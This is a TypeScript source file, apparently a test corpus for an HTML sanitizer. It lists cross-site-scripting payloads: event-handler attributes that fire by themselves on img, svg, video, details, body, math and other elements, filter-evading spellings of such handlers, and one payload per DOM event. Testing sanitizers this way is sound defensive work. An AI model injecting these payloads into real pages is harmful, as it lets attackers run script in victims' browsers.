import type { Attack } from './attack.js';

/** What the document's own element, or the window through it, may be told of. */
const ofTheBody = [
  'afterprint beforeprint beforeunload hashchange languagechange load message messageerror offline online',
  'pagehide pagereveal pageshow pageswap popstate rejectionhandled resize storage unhandledrejection unload error',
  'blur focus scroll orientationchange',
];

const ofAnything = [
  'abort auxclick beforeinput beforematch beforetoggle cancel canplay canplaythrough change click close command',
  'contextlost contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter dragleave dragover',
  'dragstart drop durationchange emptied ended focusin focusout formdata input invalid keydown keypress keyup',
  'loadeddata loadedmetadata loadstart mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup paste',
  'pause play playing progress ratechange reset scrollend scrollsnapchange scrollsnapchanging',
  'securitypolicyviolation seeked seeking select slotchange stalled submit suspend timeupdate toggle volumechange',
  'waiting wheel mousewheel animationstart animationend animationiteration animationcancel transitionrun',
  'transitionstart transitionend transitioncancel pointerdown pointermove pointerup pointercancel pointerover',
  'pointerout pointerenter pointerleave gotpointercapture lostpointercapture pointerrawupdate touchstart touchend',
  'touchmove touchcancel selectstart selectionchange fullscreenchange fullscreenerror search',
  'webkitanimationstart webkitanimationend webkittransitionend webkitfullscreenchange gesturestart',
  'contentvisibilityautostatechange encrypted waitingforkey show beforecopy beforecut beforepaste',
];

const words = (lines: string[]) => lines.join(' ').split(' ');

/** Elements whose events come by themselves. */
const alive: Record<string, string> = {
  'picture that fails': '<img src=x: onerror={js}>',
  'picture that comes': '<img src="{seen}" onload={js} onloadend={js} onloadstart={js} onerror={js}>',
  'picture of data': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload={js}>',
  'svg that loads': '<svg onload={js} onfocus={js}></svg>',
  'svg picture that fails': '<svg><image href=x: onerror={js} onload={js}></image></svg>',
  'video that fails': '<video src=x: onerror={js} onloadstart={js} onemptied={js}></video>',
  'source that fails': '<video onerror={js}><source src=x: onerror={js}></video>',
  'audio that fails': '<audio src=x: onerror={js} autoplay onplay={js}></audio>',
  'details that are open': '<details open ontoggle={js}><summary>x</summary></details>',
  'field that is focused': '<input autofocus onfocus={js} onfocusin={js} onblur={js}>',
  'anything that is focused': '<p tabindex=0 autofocus onfocus={js} onfocusin={js}>x',
  'animation that begins':
    '<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart={js} onanimationend={js}>x',
  'visibility that changes': '<p style="content-visibility:auto" oncontentvisibilityautostatechange={js}>x',
  'text that moves': '<marquee width=1 loop=1 onbounce={js} onfinish={js} onstart={js}>x</marquee>',
  'style that loads': '<style onload={js} onerror={js}>p{}</style><p>x',
  'body that loads': '<body onload={js} onpageshow={js} onfocus={js} onresize={js}>x',
  'body that hears us': '<body onmessage={js} onerror={js}>x',
  'html that hears all': '<html onclick={js} onload={js} onfocusin={js} onpointermove={js}>x',
  'math that is met':
    '<math onclick={js} onmouseover={js} onload={js}><mi onfocus={js} tabindex=0>x</mi></math>',
  'frame of nothing': '<p><frame onload={js} src=about:blank><iframe onload={js}></iframe>',
};

/** Ways to write a handler that a reader of HTML may miss. */
const spellings: Record<string, string> = {
  'in capitals': '<IMG SRC=x: ONERROR={js}>',
  'after a slash': '<img/src=x:/onerror={js}>',
  'after a form feed': '<img\fsrc=x:\fonerror={js}>',
  'after a tab and a line': '<img\tsrc=x:\nonerror\n=\n{js}>',
  'in double quotes': '<img src=x: onerror="{js}">',
  'in single quotes': "<img src=x: onerror='{js}'>",
  'as entities': '<img src=x: onerror="&#x5b;&#x5d;&comma;{js}">',
  'after a script address': '<img src=x: onerror="javascript:{js}">',
  'with a stray quote': '<img """><img src=x: onerror={js}>"\'>',
  twice: '<img src=x: onerror={js} onerror="0">',
  'without an end': '<img src=x: onerror={js} x',
  'on an unknown element': '<unknown onclick={js} tabindex=0 autofocus onfocus={js}>x</unknown>',
  'on an element in svg':
    '<svg><g onclick={js} onload={js}><rect width=9 height=9 onmouseover={js}></g></svg>',
  'on a button in a label': '<label><button onclick={js} onfocus={js} autofocus>x</button></label>',
  'in a handler that is removed': '<template><p></template><img src=x: onerror={js}>',
};

/** Handlers of events that come by themselves, and in every spelling. */
export const handlers: Attack[] = [
  ...Object.entries(alive).map(([name, html]) => ({ name: `handler: ${name}`, html })),
  ...Object.entries(spellings).map(([name, html]) => ({ name: `handler, spelled: ${name}`, html })),
];

/** Every event that an attribute may listen to, each its own attack; they do not get in each other's way. */
export const listeners: Attack[] = [
  ...words(ofTheBody).map((type) => ({ name: `on${type} of the body`, html: `<body on${type}={js}>` })),
  ...words(ofAnything).map((type) => ({
    name: `on${type}`,
    html: `<video on${type}={js}></video><input on${type}={js} type=search value=x><p on${type}={js}>x</p>`,
  })),
];
